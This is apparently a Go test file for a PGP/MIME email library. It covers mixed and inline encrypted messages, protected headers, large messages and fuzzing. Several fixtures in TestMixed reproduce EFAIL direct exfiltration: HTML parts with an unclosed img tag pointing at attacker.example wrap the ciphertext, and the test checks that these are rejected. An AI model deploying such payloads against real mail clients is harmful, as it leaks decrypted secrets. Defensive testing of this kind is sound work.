package pgpmime_test

import (
	"bytes"
	"context"
	"errors"
	"io"
	"mime/quotedprintable"
	"os"
	"strings"
	"testing"

	"github.com/mailhavn/mailhavn/pgp"
	"github.com/mailhavn/mailhavn/pgp/pgpmime"
)

func newQuotedPrintable(text string) io.Reader {
	return quotedprintable.NewReader(strings.NewReader(text))
}

func armored(t *testing.T, text string, k *pgp.Key) string {
	t.Helper()
	var out bytes.Buffer
	w, err := pgp.Encrypter{To: []*pgp.Key{k}}.Encrypt(&out)
	if err != nil {
		t.Fatal(err)
	}
	io.WriteString(w, text)
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return out.String() + "\n"
}

// EFAIL's direct exfiltration, and its relatives: what stands beside encrypted or signed parts is never shown with them.
func TestMixed(t *testing.T) {
	anna := key(t, "anna", pgp.Compatible)
	data := armored(t, "Content-Type: text/html\r\n\r\nsecret", anna)
	const version = "Content-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n"
	octets := "Content-Type: application/octet-stream\r\n\r\n" + data
	const encrypted = "Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=b\r\n\r\n"
	const html = "Content-Type: text/html\r\n\r\n<img src=\"http://attacker.example/"
	parts := func(list ...string) string { return "--b\r\n" + strings.Join(list, "\r\n--b\r\n") + "\r\n--b--\r\n" }
	nested := encrypted + parts(version, octets)
	signature := "Content-Type: application/pgp-signature\r\n\r\n-----BEGIN PGP SIGNATURE-----\r\n\r\n-----END PGP SIGNATURE-----\r\n"
	const signed = "Content-Type: multipart/signed; protocol=\"application/pgp-signature\"; boundary=b\r\n\r\n"
	for _, test := range []struct {
		name, message string
		want          error
	}{
		{"right", nested, nil},
		{"right, with something around", "Subject: x\r\n" + encrypted + "text before\r\n" + parts(version, octets) + "text after", nil},
		{"right, without end", encrypted + strings.TrimSuffix(parts(version, octets), "\r\n--b--\r\n"), nil},
		{"an image around it", "Content-Type: multipart/mixed; boundary=m\r\n\r\n--m\r\n" + html + "\r\n--m\r\n" + nested + "\r\n--m\r\nContent-Type: text/html\r\n\r\n\">\r\n--m--\r\n", pgpmime.ErrMixed},
		{"an image before", encrypted + parts(html, version, octets), pgpmime.ErrMixed},
		{"an image between", encrypted + parts(version, html, octets), pgpmime.ErrMixed},
		{"an image after", encrypted + parts(version, octets, html), pgpmime.ErrMixed},
		{"two", encrypted + parts(version, octets, octets), pgpmime.ErrMixed},
		{"only the first part", encrypted + parts(version), pgpmime.ErrMalformed},
		{"no part", encrypted, pgpmime.ErrMalformed},
		{"inline, text before", "Subject: x\r\n\r\nhello\r\n" + data, pgpmime.ErrMixed},
		{"inline, text after", "Subject: x\r\n\r\n" + data + "hello", pgpmime.ErrMixed},
		{"inline, two", "Subject: x\r\n\r\n" + data + data, pgpmime.ErrMixed},
		{"inline in HTML", "Content-Type: text/html\r\n\r\n<img src=\"http://attacker.example/" + data + "\">", pgpmime.ErrMixed},
		{"inline, no end", "Subject: x\r\n\r\n-----BEGIN PGP MESSAGE-----\r\n\r\n", pgpmime.ErrMixed},
		{"no OpenPGP", simple, pgpmime.ErrNoPGP},
		{"nothing", "", pgpmime.ErrNoPGP},
		{"encrypted by something else", "Content-Type: multipart/encrypted; protocol=\"application/x\"; boundary=b\r\n\r\n" + parts(html), pgpmime.ErrNoPGP},
		{"not encrypted", encrypted + parts(version, "Content-Type: application/octet-stream\r\n\r\nhello"), pgp.ErrMalformed},
		{"a key", encrypted + parts(version, "Content-Type: application/octet-stream\r\n\r\n"+anna.Armor()), pgp.ErrMalformed},
		{"signed, without signature", signed + parts("\r\nx"), pgpmime.ErrMalformed},
		{"signed, with an empty signature", signed + parts("\r\nx", signature), pgp.ErrNotSigned},
		{"signed, with three parts", signed + parts("\r\nx", signature, "\r\ny"), pgpmime.ErrMixed},
		{"signed by something else", signed + parts("\r\nx", "\r\ny"), pgpmime.ErrMixed},
	} {
		_, inside, err := open(t, test.message, pgp.Decrypter{Keys: []*pgp.Key{anna}})
		if !errors.Is(err, test.want) {
			t.Errorf("%s: %v, not %v", test.name, err, test.want)
		}
		if err == nil && !strings.HasSuffix(inside, "\r\n\r\nsecret") {
			t.Errorf("%s: %q", test.name, inside)
		}
	}
}

func TestInline(t *testing.T) {
	anna := key(t, "anna", pgp.Compatible)
	o, inside, err := open(t, "Subject: x\r\n\r\n\r\n"+armored(t, "secret é\r\n", anna)+"\r\n", pgp.Decrypter{Keys: []*pgp.Key{anna}})
	if err != nil || !o.Inline || !o.Encrypted || o.Header != pgpmime.HeaderUnprotected || !strings.HasSuffix(inside, "\r\n\r\nsecret é\r\n") || !strings.HasPrefix(inside, "Subject: x\r\n") {
		t.Errorf("%+v, %q, %v", o, inside, err)
	}
	quoted := strings.ReplaceAll(armored(t, "secret", anna), "=", "=3D")
	if _, _, err := open(t, "Content-Transfer-Encoding: quoted-printable\r\n\r\n"+quoted, pgp.Decrypter{Keys: []*pgp.Key{anna}}); err != nil {
		t.Errorf("quoted-printable: %v", err)
	}
}

// The form of header protection that came before RFC 9788 (draft-autocrypt-lamps-protected-headers): its fields count more than those outside.
func TestOlderProtection(t *testing.T) {
	anna := key(t, "anna", pgp.Compatible)
	data := armored(t, "Content-Type: text/plain; protected-headers=\"v1\"\r\nSubject: inside\r\nFrom: anna@example.org\r\n\r\nhello\r\n", anna)
	message := "From: eve@example.org\r\nSubject: ...\r\nDate: today\r\nMIME-Version: 1.0\r\nContent-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=b\r\n\r\n" +
		"--b\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n--b\r\nContent-Type: application/octet-stream\r\n\r\n" + data + "\r\n--b--\r\n"
	o, inside, err := open(t, message, pgp.Decrypter{Keys: []*pgp.Key{anna}})
	want := "Date: today\r\nMIME-Version: 1.0\r\nContent-Type: text/plain; protected-headers=\"v1\"\r\nSubject: inside\r\nFrom: anna@example.org\r\n\r\nhello\r\n"
	if err != nil || o.Header != pgpmime.HeaderPartial || inside != want {
		t.Errorf("%+v, %v, %q", o, err, inside)
	}
}

// The memory that Encrypt and Open need does not grow with the message; the temporary file does.
func TestLarge(t *testing.T) {
	anna := key(t, "anna", pgp.Compatible)
	size := int64(48 << 20)
	switch {
	case *long:
		size = 1 << 30
	case testing.Short():
		size = 4 << 20
	}
	r, w := io.Pipe()
	go func() {
		header := strings.NewReader("Subject: large\r\nContent-Transfer-Encoding: binary\r\n\r\n")
		w.CloseWithError(pgpmime.Encrypt(w, io.MultiReader(header, io.LimitReader(zeros{}, size)), pgp.Encrypter{To: []*pgp.Key{anna}}, nil))
	}()
	o, err := pgpmime.Open(context.Background(), r, pgp.Decrypter{Keys: []*pgp.Key{anna}, MaxSize: 2 << 30})
	if err != nil {
		t.Fatal(err)
	}
	defer o.Close()
	if n, err := io.Copy(io.Discard, o.Message()); err != nil || n < size {
		t.Errorf("%d octets, %v", n, err)
	}
}

type zeros struct{}

func (zeros) Read(p []byte) (int, error) {
	clear(p)
	return len(p), nil
}

func FuzzOpen(f *testing.F) {
	text, err := os.Open("testdata/fuzz.key") // fixed: the fuzzer's workers are processes of their own
	if err != nil {
		f.Fatal(err)
	}
	keys, err := pgp.ReadKeys(text)
	if err != nil {
		f.Fatal(err)
	}
	anna := keys[0]
	f.Add([]byte(encrypt(f, simple, pgp.Encrypter{To: []*pgp.Key{anna}}, nil)))
	f.Add([]byte(sign(f, simple, pgp.Signer{Keys: []*pgp.Key{anna}})))
	for _, mail := range oddMails {
		if len(mail) < 1000 {
			f.Add([]byte(mail))
		}
	}
	f.Fuzz(func(t *testing.T, message []byte) {
		if o, err := pgpmime.Open(t.Context(), bytes.NewReader(message), pgp.Decrypter{Keys: []*pgp.Key{anna}, Verify: []*pgp.Key{anna}, MaxSize: 1 << 20}); err == nil {
			if _, err := io.Copy(io.Discard, o.Message()); err != nil {
				t.Errorf("Open found it right, reading did not: %v", err)
			}
			o.Close()
		}
		var out bytes.Buffer
		if err := pgpmime.Encrypt(&out, bytes.NewReader(message), pgp.Encrypter{To: []*pgp.Key{anna}}, nil); err != nil {
			t.Fatal(err)
		}
		if _, inside, err := open(t, out.String(), pgp.Decrypter{Keys: []*pgp.Key{anna}}); err != nil || inside != string(message) {
			t.Errorf("%q became %q, %v", message, inside, err)
		}
	})
}
